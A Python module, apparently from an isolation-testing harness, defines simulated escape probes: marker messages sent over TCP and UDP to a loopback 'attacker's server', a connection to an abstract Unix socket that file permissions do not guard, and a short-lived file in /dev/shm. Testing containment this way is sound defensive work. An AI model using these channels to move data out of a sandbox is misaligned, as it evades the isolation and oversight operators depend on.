"""Attacks that get out of the partition: over the network, an abstract socket, a file that all can see."""

from __future__ import annotations

import os
import socket
import time

from faults.implant.foothold import Foothold, Parameters, Report

LOOPBACK = "127.0.0.1"
PATIENCE_S = 0.3
SHM_BYTES_MAX = 4 << 20


def _try(
    report: Report, what: str, kind: tuple[int, int], address: str | tuple[str, int], message: bytes
) -> None:
    try:
        with socket.socket(*kind) as out:
            out.settimeout(PATIENCE_S)
            out.connect(address)
            report[what] = out.send(message)
    except OSError as error:
        report[what] = str(error)


def egress(foothold: Foothold, parameters: Parameters) -> Report:
    """K23: to the attacker's server over TCP and UDP. ``collector_tcp_port``, ``collector_udp_port``."""
    note = f"EGRESS K23 frame={foothold.window.frame} ".encode()
    report: Report = {}
    tcp, udp = int(parameters["collector_tcp_port"]), int(parameters["collector_udp_port"])
    _try(report, "tcp", (socket.AF_INET, socket.SOCK_STREAM), (LOOPBACK, tcp), note + b"tcp\n")
    _try(report, "udp", (socket.AF_INET, socket.SOCK_DGRAM), (LOOPBACK, udp), note + b"udp\n")
    return report


def abstract_socket(foothold: Foothold, parameters: Parameters) -> Report:
    """K08: to a Unix socket that lives in no file system, so that no file permission guards it.

    ``abstract_name``.
    """
    note = f"EGRESS K08 frame={foothold.window.frame} abstract\n".encode()
    report: Report = {}
    name = "\0" + str(parameters["abstract_name"])
    _try(report, "abstract", (socket.AF_UNIX, socket.SOCK_STREAM), name, note)
    return report


def shared_memory_file(_foothold: Foothold, parameters: Parameters) -> Report:
    """K06: a file of ``bytes`` (1 MiB) called ``token`` in memory that all share; taken away again."""
    path = f"/dev/shm/{parameters['token']}"
    size = min(int(parameters.get("bytes", 1 << 20)), SHM_BYTES_MAX)
    try:
        fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
    except OSError as error:
        return {"note": str(error)}
    try:
        written = os.write(fd, b"\xa5" * size)
        time.sleep(min(float(parameters.get("hold_s", 0.1)), 1.0))
    finally:
        os.close(fd)
        os.unlink(path)
    return {"bytes": written}
